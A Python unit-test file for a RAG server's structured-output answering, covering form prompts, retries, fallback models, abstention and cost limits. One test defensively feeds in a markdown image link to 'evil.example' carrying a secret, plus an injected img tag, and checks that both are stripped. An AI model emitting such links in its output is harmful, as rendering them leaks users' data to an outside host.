"""Answers of a form, through the pipeline with models that play back what they say."""

from __future__ import annotations

from typing import Any

from rag_server.backends.protocols import Price
from rag_server.domain.document import Span
from rag_server.domain.generation import (
    CitationOrigin,
    Cited,
    Delta,
    Finished,
    FinishReason,
    GenerationRequest,
    Prompt,
    Usage,
)
from rag_server.domain.output_format import ChoiceOutput, JsonSchemaOutput, RegexOutput
from rag_server.errors import InvalidArgument, Unavailable
from rag_server.testing.generator_suite import source
from tests.unit.rag_server.generation.test_pipeline import (
    DOWN,
    Retrieval,
    Script,
    answering,
    question,
    read,
    text_of,
    written,
)

WHEN = JsonSchemaOutput(
    '{"type": "object", "properties": {"when": {"type": "string"}}, "required": ["when"]}'
)
GOOD = '{"when": "The grey heron waits by the river at dawn."}'


class Turns(Script):
    """A generator that says something else each time."""

    def __init__(self, *answers: str, reason: FinishReason = FinishReason.COMPLETE, **others: Any) -> None:
        super().__init__(**{"name": "writer", "window": 4096, **others})
        self.answers = list(answers)
        self.reason = reason

    async def generate(self, prompt: Prompt) -> Any:
        self.script = (*map(Delta, self.answers.pop(0).split("|")), Usage(9, 3), self.reason)
        async for event in super().generate(prompt):
            yield event


def asked(output: Any = WHEN, **others: Any) -> GenerationRequest:
    return question(output=output, **others)


def reason_of(events: Any) -> FinishReason:
    finished = events[-1]
    assert isinstance(finished, Finished)
    return finished.reason


async def test_answer_of_the_form_comes_in_one_piece_and_is_attributed_by_similarity() -> None:
    generator = Turns(GOOD.replace(" ", "| "))
    events, error = await read(answering(generator), asked())
    assert error is None
    assert [event.text for event in events if isinstance(event, Delta)] == [GOOD]
    (citation,) = [event.citation for event in events if isinstance(event, Cited)]
    assert citation.origin is CitationOrigin.SIMILARITY
    assert citation.answer_span == Span(10, len(GOOD) - 2)
    assert GOOD[10 : len(GOOD) - 2] == citation.quote == "The grey heron waits by the river at dawn."
    assert reason_of(events) is FinishReason.COMPLETE
    assert Usage(9, 3) in events


async def test_prompt_tells_of_the_form_and_asks_for_no_markers() -> None:
    for output, words in (
        (WHEN, WHEN.schema),
        (RegexOutput(r"\d+"), r"\d+"),
        (ChoiceOutput(("Yes", "No")), "  - Yes\n  - No\n"),
    ):
        generator = Turns("x", "x")
        await read(answering(generator), asked(output))
        system = generator.prompts[0].messages[0].text
        assert words in system
        assert "[1]" not in system
        assert "\n\n" not in system.partition("\n\n")[2]
    plain = written("At dawn [1].")
    await read(answering(plain))
    assert "[1]" in plain.prompts[0].messages[0].text


async def test_answer_without_the_form_is_asked_for_once_more_with_the_cause() -> None:
    generator = Turns("At dawn.", GOOD)
    events, error = await read(answering(generator), asked())
    assert error is None
    assert text_of(events) == GOOD
    assert Usage(18, 6) in events
    first, second = generator.prompts
    assert second.messages[:-1] == first.messages[:-1]
    assert second.messages[-1].text.startswith(first.messages[-1].text)
    assert "it is not JSON" in second.messages[-1].text


async def test_reminder_is_left_out_where_the_window_has_no_room_for_it() -> None:
    generator = Turns("At dawn.", GOOD)
    await read(answering(generator), asked(max_tokens=1))
    needed = sum(len(each.text.split()) + 8 for each in generator.prompts[0].messages)
    full = Turns("At dawn.", GOOD, window=needed + 10)
    events, error = await read(answering(full), asked(max_tokens=10))
    assert error is None
    assert text_of(events) == GOOD
    assert full.prompts[0] == full.prompts[1]


async def test_answer_without_the_form_twice_is_an_error_and_not_a_word_is_sent() -> None:
    events, error = await read(answering(Turns("hunter2", "hunter2")), asked())
    assert text_of(events) == ""
    assert isinstance(error, Unavailable)
    assert error.reason == "OUTPUT_NOT_SATISFIED"
    assert "hunter2" not in error.message
    assert not any(isinstance(event, Finished) for event in events)


async def test_model_without_the_form_is_replaced_by_the_next() -> None:
    spare = Turns(GOOD, name="spare")
    events, error = await read(answering(Turns("x", "x"), spare), asked())
    assert error is None
    assert text_of(events) == GOOD


async def test_fallback_that_quotes_is_passed_over() -> None:
    dying = Script(DOWN, name="dying", window=4096)
    _, error = await read(answering(dying, Script(FinishReason.COMPLETE, name="quoting")), asked())
    assert error is DOWN


async def test_answer_that_is_cut_is_an_error_that_names_the_limit() -> None:
    generator = Turns(GOOD[:-9], reason=FinishReason.MAX_TOKENS)
    events, error = await read(answering(generator), asked())
    assert isinstance(error, InvalidArgument)
    assert (error.reason, error.violations[0].field) == (
        "OUTPUT_EXCEEDS_LIMIT",
        "generation.max_answer_tokens",
    )
    assert text_of(events) == ""
    assert len(generator.prompts) == 1


async def test_model_that_quotes_is_refused_naming_the_field_before_anything_is_retrieved() -> None:
    retrieval = Retrieval(failure=AssertionError("nothing is retrieved"))
    events, error = await read(answering(Script(), retrieval=retrieval), asked())
    assert events == []
    assert isinstance(error, InvalidArgument)
    assert (error.reason, error.violations[0].field) == ("OUTPUT_NOT_SUPPORTED", "generation.output")


async def test_form_that_is_none_is_refused_before_anything_is_retrieved() -> None:
    retrieval = Retrieval(failure=AssertionError("nothing is retrieved"))
    _, error = await read(answering(Turns(), retrieval=retrieval), asked(RegexOutput("(")))
    assert isinstance(error, InvalidArgument)
    assert error.violations[0].field == "generation.output.regex"


async def test_model_that_abstains_does_so_in_a_sentence() -> None:
    events, error = await read(answering(Turns("**NO_RELEVANT|_CONTENT**")), asked())
    assert error is None
    assert reason_of(events) is FinishReason.NO_RELEVANT_CONTENT
    assert text_of(events) == "I found nothing in the documents that answers this question."


async def test_question_without_sources_abstains_whatever_the_form() -> None:
    events, _ = await read(answering(Turns(), retrieval=Retrieval(())), asked())
    assert reason_of(events) is FinishReason.NO_RELEVANT_CONTENT


async def test_answer_that_the_provider_withheld_is_empty_and_says_so() -> None:
    events, error = await read(answering(Turns("I can", reason=FinishReason.POLICY)), asked())
    assert error is None
    assert reason_of(events) is FinishReason.POLICY
    assert text_of(events) == ""


async def test_links_in_strings_stay_only_if_a_source_or_the_form_has_them() -> None:
    retrieval = Retrieval([source("See https://good.example/a for herons.")])
    schema = JsonSchemaOutput('{"type": "object", "description": "see https://form.example/b"}')
    answer = (
        '{"a": "https://good.example/a", "b": "https://form.example/b", '
        '"c": "![x](https://evil.example/?q=hunter2) <img src=y>"}'
    )
    events, error = await read(answering(Turns(answer), retrieval=retrieval), asked(schema))
    assert error is None
    text = text_of(events)
    assert '"https://good.example/a"' in text
    assert '"https://form.example/b"' in text
    assert "evil" not in text
    assert "<img" not in text


async def test_cost_of_a_form_is_that_of_both_attempts() -> None:
    generator = Turns(GOOD, price=Price(0.0, 1_000_000.0))
    _, error = await read(answering(generator), asked(max_tokens=10, max_cost=19.0))
    assert isinstance(error, InvalidArgument)
    assert error.reason == "COST_LIMIT_EXCEEDED"
    _, error = await read(answering(generator), asked(max_tokens=10, max_cost=20.0))
    assert error is None
